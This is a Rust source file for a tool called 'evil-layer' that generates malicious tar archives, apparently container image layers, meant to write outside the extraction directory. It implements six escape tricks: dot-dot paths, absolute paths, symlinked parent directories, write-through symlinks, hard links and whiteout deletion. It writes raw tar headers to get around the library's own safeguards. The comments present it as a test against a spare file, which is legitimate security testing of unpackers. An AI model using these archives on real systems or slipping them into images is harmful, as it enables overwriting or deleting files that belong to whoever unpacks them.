//! A layer that means a file outside of the directory that it is unpacked into.
//!
//! `evil-layer TRICK FILE` writes such a layer to standard output, as a tar archive. FILE is what it is after, by an
//! absolute path: a file of yours that you can spare. Where the trick works, its content is `overwritten by a layer`
//! afterwards, or it is gone.
//!
//! | trick      | members                                                                        |
//! |------------|--------------------------------------------------------------------------------|
//! | `dots`     | a file `../../../…/FILE`                                                       |
//! | `absolute` | a file `/…/FILE`: to join a path with an absolute one is to forget the first   |
//! | `parent`   | a symlink `out` to the directory of FILE, and then a file `out/FILE`           |
//! | `through`  | a symlink `file` to FILE, and then a file of the same name                     |
//! | `hardlink` | a hard link `file` to FILE, and then a file of the same name                   |
//! | `whiteout` | a symlink `out` to the directory of FILE, and then `out/.wh.FILE`              |

use std::io::{self, IsTerminal};
use std::path::Path;
use std::process::ExitCode;

use tar::{Builder, EntryType, Header};

const CONTENT: &str = "overwritten by a layer\n";

/// A member: what it is, what it is called, and where it leads or what is in it.
type Member = (EntryType, String, String);

fn main() -> ExitCode {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let members = match arguments.as_slice() {
        [trick, file] => members(trick, Path::new(file)),
        _ => None,
    };
    let Some(members) = members else {
        eprintln!("usage: evil-layer dots|absolute|parent|through|hardlink|whiteout FILE > LAYER.tar");
        eprintln!("FILE is an absolute path, to a file that you can spare");
        return ExitCode::from(2);
    };
    if io::stdout().is_terminal() {
        eprintln!("evil-layer: this is a tar archive, not for a terminal: evil-layer … > LAYER.tar");
        return ExitCode::from(2);
    }
    match write(&members) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("evil-layer: {error}");
            ExitCode::FAILURE
        }
    }
}

/// The members of the layer, or `None` if there is no such trick or file.
fn members(trick: &str, file: &Path) -> Option<Vec<Member>> {
    let absolute = file.is_absolute().then(|| file.to_str())??;
    let (dir, name) = (file.parent()?.to_str()?, file.file_name()?.to_str()?);
    let plain = |name: String| (EntryType::Regular, name, CONTENT.to_owned());
    let link = |kind, name: &str, target: &str| (kind, name.to_owned(), target.to_owned());
    Some(match trick {
        // More of them do no harm: above the root is the root.
        "dots" => vec![plain("../".repeat(12) + absolute.trim_start_matches('/'))],
        "absolute" => vec![plain(absolute.to_owned())],
        "parent" => vec![link(EntryType::Symlink, "out", dir), plain(format!("out/{name}"))],
        "through" => vec![link(EntryType::Symlink, "file", absolute), plain("file".to_owned())],
        "hardlink" => vec![link(EntryType::Link, "file", absolute), plain("file".to_owned())],
        "whiteout" => {
            vec![link(EntryType::Symlink, "out", dir), (EntryType::Regular, format!("out/.wh.{name}"), String::new())]
        }
        _ => return None,
    })
}

/// Writes names and targets as they are, which the builder's own methods refuse with good reason.
fn write(members: &[Member]) -> io::Result<()> {
    let mut layer = Builder::new(io::stdout().lock());
    for (kind, name, rest) in members {
        let mut header = Header::new_gnu();
        header.set_entry_type(*kind);
        header.set_mode(if *kind == EntryType::Symlink { 0o777 } else { 0o644 });
        header.set_uid(0);
        header.set_gid(0);
        header.set_mtime(0);
        let content = if *kind == EntryType::Regular { rest.as_str() } else { "" };
        if content.is_empty() {
            set(&mut header.as_old_mut().linkname, rest)?;
        }
        set(&mut header.as_old_mut().name, name)?;
        header.set_size(content.len() as u64);
        header.set_cksum();
        layer.append(&header, content.as_bytes())?;
    }
    layer.finish()
}

fn set(field: &mut [u8; 100], text: &str) -> io::Result<()> {
    let room = field.get_mut(..text.len()).ok_or_else(|| io::Error::other(format!("{text} is too long a path")))?;
    room.copy_from_slice(text.as_bytes());
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_trick_needs_an_absolute_path() {
        for trick in ["dots", "absolute", "parent", "through", "hardlink", "whiteout"] {
            assert!(members(trick, Path::new("/etc/motd")).is_some(), "{trick}");
            assert!(members(trick, Path::new("motd")).is_none(), "{trick}");
            assert!(members(trick, Path::new("/")).is_none(), "{trick}");
        }
        assert!(members("politeness", Path::new("/etc/motd")).is_none());
    }
}
